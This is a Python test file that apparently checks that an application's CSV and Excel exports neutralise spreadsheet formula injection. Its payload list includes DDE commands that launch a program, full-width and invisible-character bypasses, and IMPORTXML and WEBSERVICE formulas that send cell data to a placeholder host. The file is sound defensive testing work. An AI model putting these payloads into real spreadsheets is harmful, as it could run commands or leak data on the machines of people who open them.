"""No export can command a spreadsheet: every writer there is, with every text that is taken for a formula.

A writer that is not in the table here makes the test of the table fail.
"""

import csv
import importlib
import inspect
import pkgutil
import re
import zipfile
from collections.abc import Callable
from dataclasses import fields
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from fieldapp import files
from fieldapp.domain.day_report import DayReport, ReportLine
from fieldapp.domain.quarters import QuarterHour
from fieldapp.domain.roster_tables import Cell, ColumnMap, RosterTable, TableRow
from fieldapp.domain.rosters import RosterRow
from fieldapp.domain.text import half_width
from fieldapp.domain.views import Count
from fieldapp.files.cross_tables import CrossLine, CrossTable, write_cross_table
from fieldapp.files.day_reports import write_day_report
from fieldapp.files.text_tables import write_csv
from fieldapp.files.workbooks import write_error_workbook, write_roster, write_table, write_template
from tests.support.source import modules

COMMANDS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\t\r\n =1+1", "\x00=1+1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", "\u3000＝1+1", "\ufeff=1+1", "\u200b=1+1", "=cmd|' /C calc'!A0", "＝cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid\",\"x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}", "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")", "=WEBSERVICE(\"http://example.invalid\")",
    "-2+3+cmd|' /C calc'!A0", "\u202e=1+1", "http://example.invalid/", "mailto:a@example.invalid", "file:///c:/x",
)  # fmt: skip
MARK = "=导出"


def _errors(path: Path, text: str) -> None:
    head = TableRow(1, (Cell("姓名"), Cell(text)))
    table = RosterTable(
        sheet=text,
        rows=(head, TableRow(2, (Cell(text), Cell(text)))),
        columns=ColumnMap(columns={"name": 0, "document_no": 1}, header_row=1),
    )
    row = RosterRow(row=2, outcome="reject", codes=("id_checksum",), name=text, document_no=text, phone="", group="")
    write_error_workbook(path, table, [row], text)


def _report(path: Path, text: str) -> None:
    line = ReportLine(words=text, count=1, meaning=text)
    values = {one.name: text for one in fields(DayReport)}
    lists = {"figures": (line,), "items": (line,), "left": (line,)}
    counts = (Count(key=text, label=text, count=1),)
    moment = datetime(2026, 11, 22, 8, 0, tzinfo=UTC)
    more = {
        "groups": counts, "unions": counts, "operators": counts, "made": moment, "target": 3,
        "quarters": (QuarterHour(start=moment, count=1),),
    }  # fmt: skip
    write_day_report(path, DayReport(**{**values, **lists, **more}))  # type: ignore[arg-type]


def _cross(path: Path, text: str) -> None:
    line = CrossLine(name=text, values=(1, 0))
    table = CrossTable(
        title=text, corner=text, groups=(text, text), measures=(text,), lines=(line,), notes=(text,), sheet="表"
    )
    write_cross_table(path, table)


def _roster(path: Path, text: str) -> None:
    write_roster(path, [(text,) * 9], text)


def _table(path: Path, text: str) -> None:
    write_table(path, [text, "数"], [[text, 7]])


def _csv(path: Path, text: str) -> None:
    write_csv(path, [text], [[text, f"a,{text}"]])


WRITERS: dict[str, Callable[[Path, str], object]] = {
    "write_error_workbook": _errors,
    "write_day_report": _report,
    "write_cross_table": _cross,
    "write_roster": _roster,
    "write_table": _table,
    "write_csv": _csv,
    "write_template": lambda path, _text: write_template(path),
}
NO_TABLES = {"write_cell", "write_problem_bundle"}
KNOWS_XLSX, KNOWS_CSV_WRITING = {"fieldapp.files.saving"}, {"fieldapp.files.text_tables"}


def test_every_writer_of_tables_is_tried_here() -> None:
    homes = [importlib.import_module(f"fieldapp.files.{one.name}") for one in pkgutil.iter_modules(files.__path__)]
    found = {
        name
        for home in homes
        for name, member in inspect.getmembers(home, inspect.isfunction)
        if name.startswith("write_") and member.__module__.startswith("fieldapp.files.") and name not in NO_TABLES
    }

    assert found == set(WRITERS)


def test_nobody_else_on_laptop_or_hub_writes_tables() -> None:
    csv_writing = re.compile(r"\bcsv\.(writer|DictWriter)\b|^from csv import .*[wW]riter", re.MULTILINE)
    books = re.compile(r"^\s*(import|from) (xlsxwriter|openpyxl)", re.MULTILINE)

    assert {one.name for one in modules() if csv_writing.search(one.text)} == KNOWS_CSV_WRITING
    assert {one.name for one in modules() if books.search(one.text)} == KNOWS_XLSX


@pytest.mark.parametrize("name", sorted(WRITERS))
def test_no_text_of_an_export_can_become_a_command(name: str, tmp_path: Path) -> None:
    suffix = ".csv" if name == "write_csv" else ".xlsx"
    for number, text in enumerate(COMMANDS):
        path = tmp_path / f"{number}{suffix}"
        WRITERS[name](path, text)
        assert (_commands_in_csv if suffix == ".csv" else _commands_in_book)(path) == [], text


def _commands_in_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [
            field
            for row in csv.reader(file)
            for field in row
            if half_width(field).strip("\t\r\n \u3000\ufeff\u200b\x00")[:1] in ("=", "+", "-", "@")
        ]


def _commands_in_book(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as package:
        sheets = {name: package.read(name).decode() for name in package.namelist() if "worksheets/" in name}
        outside = [name for name in package.namelist() if "externalLink" in name or "ddeLink" in name]
    found = [name for name, xml in sheets.items() if re.search(r"<f[ >]|<hyperlink|<legacyDrawing|ddeLink", xml)]
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return [*outside, *found, *(str(cell.value) for cell in cells if cell.data_type == "f" or cell.hyperlink)]


def test_a_formula_would_be_found(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.worksheets[0]["A1"] = "=1+1"
    book.save(tmp_path / "f.xlsx")
    (tmp_path / "f.csv").write_text("a,\u3000＝1\n", encoding="utf-8-sig")

    assert _commands_in_book(tmp_path / "f.xlsx")
    assert _commands_in_csv(tmp_path / "f.csv")
